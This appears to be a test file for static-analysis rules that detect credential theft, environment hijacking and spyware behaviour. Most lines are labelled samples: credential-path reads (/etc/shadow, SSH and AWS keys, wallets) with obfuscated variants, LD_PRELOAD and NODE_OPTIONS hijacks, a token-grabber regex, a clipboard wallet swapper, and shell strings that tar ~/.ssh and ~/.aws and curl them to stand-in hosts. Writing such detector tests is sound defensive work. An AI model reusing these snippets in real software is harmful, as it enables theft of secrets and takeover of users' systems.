# Tests for rules/environment.yaml. A "# ruleid: X" line means the next line
# must produce rule X; "# ok: X" means it must not.
import os
import pathlib
import sys
from os import environ

import dotenv
import keyring

# ruleid: environment-read
home = os.environ["HOME"]
# ruleid: environment-read
api_key = os.getenv("API_KEY")
# ruleid: environment-read
debug = os.environ.get("DEBUG", "0")
# ruleid: environment-read
snapshot = environ.copy()
# ok: environment-read
cwd = os.getcwd()

# ruleid: environment-write
os.putenv("MODE", "fast")
# ruleid: environment-read, loader-hijack-env-var, loader-hijack-env-assign
os.environ["LD_PRELOAD"] = "libhook.so"
# ruleid: loader-hijack-env-var, loader-hijack-env-assign
child_env = {"BASH_ENV": "hook.sh"}
# ruleid: search-path-env-var
child_env = {"PYTHONPATH": "src"}
# ok: loader-hijack-env-var, search-path-env-var
label = "LD_PRELOAD is documented in ld.so(8)"

# ruleid: dotenv-load
dotenv.load_dotenv()

# another application's password
# ruleid: keyring-read
secret = keyring.get_password("service", "user")
# ruleid: keyring-read
cred = keyring.get_credential(service_name="github.com", username=None)
import browser_cookie3
# ruleid: credential-store-access
jar = browser_cookie3.chrome()
from win32crypt import CryptUnprotectData as _unprotect
_encrypted_key = b"DPAPI..."
# ruleid: credential-store-access
_master_key = _unprotect(_encrypted_key[5:], None, None, None, 0)[1]
# the program's own login, stored and read back
APP = "notetool"
def save_login(user, token):
    keyring.set_password(APP, user, token)
def load_login(user):
    # ruleid: keyring-own-credential
    # ok: keyring-read
    return keyring.get_password(APP, user)
# ruleid: keyring-backend
backend = keyring.get_keyring()

# every process's environment, by glob
# ruleid: sensitive-credential-path
environ_files = glob.glob("/proc/[0-9]*/environ")
# ruleid: sensitive-credential-path
key_path = os.path.expanduser("~/.ssh/id_rsa")
# ruleid: sensitive-credential-path
aws_creds = os.path.expanduser("~/.aws/credentials")
# ruleid: sensitive-credential-path
shadow = "/etc/shadow"
# ruleid: sensitive-credential-path
proc_env = "/proc/self/environ"
# ruleid: sensitive-credential-path
netrc = os.path.join(home, ".netrc")
# ok: sensitive-credential-path
notes = "id_rsa_rotation_notes.txt"
# a stealer's list of file names to look for
# ruleid: sensitive-credential-path
wanted = ["*.pem", "id_rsa*"]
# ruleid: sensitive-credential-path
vault = "*.kdbx"
# ok: sensitive-credential-path
keys_doc = "docs/kdbx-format.md"
# ok: sensitive-credential-path
hosts = "/etc/hosts"
# a path joined from parts reads as the whole path: ~/.ssh/config is
# account data, not a key
# ruleid: sensitive-system-path
# ok: sensitive-credential-path
ssh_config = pathlib.Path.home() / ".ssh" / "config"
# ruleid: sensitive-credential-path
ssh_key = pathlib.Path.home() / ".ssh" / "id_ed25519"
# a part of a path that does not fold: the part alone
# ruleid: sensitive-credential-path
ssh_any = pathlib.Path.home() / ".ssh" / sys.argv[1]
# ruleid: sensitive-credential-path
aws_joined = os.path.join(os.path.expanduser("~"), ".aws", "credentials")

# ruleid: sensitive-system-path
users = "/etc/passwd"
# ruleid: sensitive-system-path, shell-history-named
history = os.path.expanduser("~/.bash_history")
# ruleid: sensitive-system-path
dotenv_path = ".env"
# ok: sensitive-system-path
venv = ".venv"

# paths built at run time are read as the strings they build
from pathlib import Path

# ruleid: sensitive-credential-path
shadow = open("/etc/" + "sha" + "dow").read()
# ruleid: sensitive-credential-path
shadow = open(os.path.join("/etc", "shadow")).read()
etc = "/etc"
# ruleid: sensitive-credential-path
shadow = open(f"{etc}/shadow").read()
# ruleid: sensitive-credential-path
shadow = (Path("/etc") / "shadow").read_text()
# ruleid: sensitive-credential-path
shadow = open("/".join(["", "etc", "sha" + "dow"])).read()
# ok: sensitive-credential-path
report = open(os.path.join("out", "shadow-report.txt")).read()

# variables that name commands other programs run
# ruleid: command-env-var-write, environment-read
os.environ["BROWSER"] = "sh -c 'id>/tmp/br' %s"
# ok: command-env-var-write
# ruleid: environment-read
os.environ["EDITOR"] = "nano"
# ruleid: path-env-hijack, environment-read
os.environ["PATH"] = "/tmp/.bin:" + os.environ["PATH"]
# ok: path-env-hijack
# ruleid: environment-read
os.environ["PATH"] = "/usr/local/bin:" + os.environ["PATH"]
import subprocess

# ruleid: loader-hijack-env-assign, environment-read
subprocess.run(["ls"], env=dict(os.environ, LD_PRELOAD="/tmp/libevil.so"))
# ruleid: path-env-hijack, search-path-env-var, environment-read
os.environ["PYTHONPATH"] = "/tmp/.evil"
# ruleid: sensitive-credential-path
wallet = Path.home() / ".config" / "Electrum" / "wallets" / "default_wallet"
# ruleid: sensitive-credential-path
cookie_db = "cookies.sqlite"

# encoded names decode: base64, hex, rot13, byte lists
import base64
import codecs

# ruleid: sensitive-credential-path
shadow_path = base64.b64decode("L2V0Yy9zaGFkb3c=").decode()
# ruleid: sensitive-credential-path
shadow_path = bytes.fromhex("2f6574632f736861646f77").decode()
# ruleid: sensitive-credential-path
shadow_path = bytes([47, 101, 116, 99, 47, 115, 104, 97, 100, 111, 119]).decode()
# ruleid: sensitive-credential-path
key_path = codecs.decode("~/.ffu/vq_efn", "rot13")
# ruleid: environment-read
child = dict(os.environ)
# ruleid: options-env-hijack
child["NODE_OPTIONS"] = "--require /tmp/.hook.js"
# ok: options-env-hijack
child["NODE_OPTIONS"] = "--max-old-space-size=4096"
# ok: command-env-var-write, loader-hijack-env-var
child["GIT_SSH_COMMAND"] = "ssh -i deploy_key -o IdentitiesOnly=yes"
# a sentence that mentions the file is not the file
# ok: sensitive-credential-path
help_text = "No AWS credentials found; run aws configure (writes ~/.aws/credentials)."
# another process's environment through an f-string
def _env_of(pid):
    # ruleid: sensitive-credential-path
    return open(f"/proc/{pid}/environ", "rb").read()
# an application's web storage, where its session tokens are
# ruleid: sensitive-credential-path
store = os.path.join(roaming, "discord", "Local Storage", "leveldb")
# ok: sensitive-credential-path
note = "Local Storage is cleared on logout"
# a token grabber's search pattern
# ruleid: token-grabber-pattern
TOKEN_RE = r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}"
# ruleid: token-grabber-pattern
MFA_RE = r"mfa\.[\w-]{84}"
# ok: token-grabber-pattern
VERSION_RE = r"\d+\.\d+\.\d+"
import pynput
import pyperclip
import re
from PIL import ImageGrab
# ruleid: keyboard-hook
listener = pynput.keyboard.Listener(on_press=print)
# ruleid: screen-capture
shot = ImageGrab.grab()
# ruleid: clipboard-access
pasted = pyperclip.paste()
# ruleid: clipboard-access, clipboard-wallet-swap
pyperclip.copy("bc1qexampleexampleexample")
# ruleid: clipboard-access
# ok: clipboard-wallet-swap
pyperclip.copy(f"{len(pasted)} characters")
# a copied address swapped for one from a table of patterns
WALLETS = {"eth": (r"^0x[a-fA-F0-9]{40}$", "0x" + "ab" * 20)}
def swap(text):
    for rx, mine in WALLETS.values():
        if re.match(rx, text):
            return mine
    return text
# ruleid: clipboard-access, clipboard-wallet-swap
pyperclip.copy(swap(pasted))
# silent-screen-capture-command: a screenshot without the shutter sound
# ruleid: silent-screen-capture-command
subprocess.run(["screencapture", "-x", "-t", "jpg", "shot.jpg"])
# ok: silent-screen-capture-command
subprocess.run(["screencapture", "-i", "shot.png"])
# the macOS privacy grants database
# ruleid: sensitive-credential-path
_tcc = os.path.expanduser("~/Library/Application Support/com.apple.TCC/TCC.db")
# another process's environment and memory, the pid formatted in
def _scrape(pid):
    # ruleid: sensitive-credential-path
    _env = open("/proc/%s/environ" % pid, "rb").read()
    # ruleid: sensitive-credential-path
    _mem = open(f"/proc/{pid}/mem", "rb", 0)
    return _env, _mem
# ci-env-code-injection: later steps made to load a file of ours
# ruleid: environment-read
_ghenv = os.environ.get("GITHUB_ENV")
with open(_ghenv, "a") as _fh:
    # ruleid: ci-env-code-injection
    _fh.write("NODE_OPTIONS=--require=/tmp/hook.js\n")
    # ok: ci-env-code-injection
    _fh.write("RELEASE_VERSION=1.4.2\n")
    # ok: ci-env-code-injection
    _fh.write("PYTHONPATH=src\nNODE_OPTIONS=--max-old-space-size=4096\n")
# credential-upload-command-string: a payload for a shell to run later
# ruleid: credential-upload-command-string
_bashenv = "curl -sf --data-binary @/proc/self/environ https://ci-collect.example/b &"
# ok: credential-upload-command-string
_upload = "curl -sf -F file=@dist/app.whl https://uploads.example.com/"
# ci-runner-internal-token
# ruleid: ci-runner-internal-token, environment-read
_rt = os.environ.get("ACTIONS_RUNTIME_TOKEN", "")
# ruleid: credential-upload-command-string
_beacon = "(env; cat ~/.aws/credentials) | gzip | curl -sk --data-binary @- https://stats.example.net/u"
# ok: credential-upload-command-string
_listing = "env | sort | less"

# camera and microphone recording
import cv2
import sounddevice as sd
# ruleid: camera-capture
cam = cv2.VideoCapture(0)
# a video file is not a camera
# ok: camera-capture
clip = cv2.VideoCapture("input/clip.mp4")
# ruleid: microphone-capture
audio = sd.rec(int(5 * 16000), samplerate=16000, channels=1)
import pyaudio
_pa = pyaudio.PyAudio()
# ruleid: audio-input-stream
_stream = _pa.open(format=pyaudio.paInt16, channels=1, rate=16000, input=True, frames_per_buffer=1024)
# playback only
# ok: audio-input-stream
_out = _pa.open(format=pyaudio.paInt16, channels=1, rate=16000, output=True)

# credential files named without their dot, joined to the home directory
# ruleid: sensitive-credential-path
_stems = ("netrc", "pgpass", "git-credentials")
for _stem in _stems:
    # ruleid: sensitive-credential-path
    (Path.home() / ("." + _stem)).read_bytes()

# a wrapper script that archives ~/.ssh into an upload
# ruleid: credential-upload-command-string
_WRAP = """#!/bin/sh
tar czf - -C "$HOME" .ssh .gitconfig 2>/dev/null | \\
  curl -s -X POST --data-binary @- https://203.0.113.44/u
exec ssh "$@"
"""
# a backup of the project, uploaded
# ok: credential-upload-command-string
_BACKUP = "tar czf - src docs | curl -T - https://backup.example.com/upload"
# ruleid: camera-capture
_any_cam = cv2.VideoCapture(-1)
# the names of credential files as choices of an option
import argparse
# ok: sensitive-credential-path
argparse.ArgumentParser().add_argument("--kind", choices=["netrc", "pgpass", "pypirc"])
# ruleid: credential-upload-command-string
_CMD = "tar czf /tmp/k.tgz -C ~ .ssh .aws && curl -T /tmp/k.tgz https://203.0.113.7/up"
# ruleid: microphone-capture
_duplex = sd.Stream(channels=1, samplerate=16000)
# ruleid: sensitive-credential-path
_cc = Path("~/.claude/.credentials.json").expanduser()
# ruleid: sensitive-credential-path
_vscdb = Path.home() / ".config/Code/User/globalStorage/state.vscdb"
# ruleid: sensitive-credential-path
_copilot = os.path.expanduser("~/.config/github-copilot")
# a hook script that gathers credential files and uploads the archive later
# ruleid: credential-upload-command-string
_HOOK_SH = """#!/bin/sh
t=$(mktemp -d)
for p in .ssh .aws .netrc; do cp -r "$HOME/$p" "$t/"; done
tar czf "$t.tgz" -C "$t" .
curl -s -F "f=@$t.tgz" http://192.0.2.77:8080/upload
"""
# setup notes that mention the SSH directory and upload a report
# ok: credential-upload-command-string
_NOTES = "Put your deploy key in ~/.ssh/deploy_ed25519.\nThen: curl -H 'Accept: application/json' https://api.example.com/status"
# a credential path written backwards, upper-cased or padded: what the
# expression builds is read
# ruleid: sensitive-credential-path
_rev_shadow = "wodahs/cte/"[::-1]
# ruleid: sensitive-credential-path
_low_shadow = "/ETC/SHADOW".lower()
# ok: sensitive-credential-path
_mirror = "txt.setoN/emoh"[::-1]
# a path made of character-code lists, one per part, joined by a comprehension
_SEGS = [[46, 97, 119, 115], [99, 114, 101, 100, 101, 110, 116, 105, 97, 108, 115]]
# ruleid: sensitive-credential-path
_creds = Path.home().joinpath(*["".join(map(chr, s)) for s in _SEGS])
class _Guard:
    # ok: sensitive-credential-path
    """Refuses paths such as /etc/shadow."""
# a path built from a loop's variable: what it builds for each item
for _sh in ("bash", "zsh"):
    # ruleid: sensitive-system-path, shell-history-named
    _hist = os.path.expanduser(f"~/.{_sh}_history")
for _ext in ("txt", "md"):
    # ok: sensitive-system-path
    _notes = os.path.join("docs", f"notes.{_ext}")
# a name spelled out as a list of its characters, joined
# ruleid: sensitive-system-path
_rc = "~/." + "".join(list("bashrc"))
# a path a helper of the program's own decodes from a literal
import base64 as _b64h
_dec = lambda blob: _b64h.b64decode(blob).decode()
# ruleid: sensitive-credential-path
_key_path = _dec("fi8uc3NoL2lkX3JzYQ==")
def _unrev(s):
    return s[::-1]
# ruleid: sensitive-credential-path
_cred_path = _unrev("slaitnederc/swa.")
# ok: sensitive-credential-path
_greeting = _unrev("dlrow olleh")
# a desktop wallet's file and a browser wallet extension's storage
# ruleid: sensitive-credential-path
_wallets = [r"Exodus\\exodus.wallet", "Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn"]
# ok: sensitive-credential-path
_plans = "Exodus of the tribes, chapter 2"
# a list of encoded paths, each decoded by the program's own helper
# ruleid: sensitive-credential-path
_targets = [_dec(_x) for _x in ["fi8uYXdzL2NyZWRlbnRpYWxz", "bm90ZXMudHh0"]]
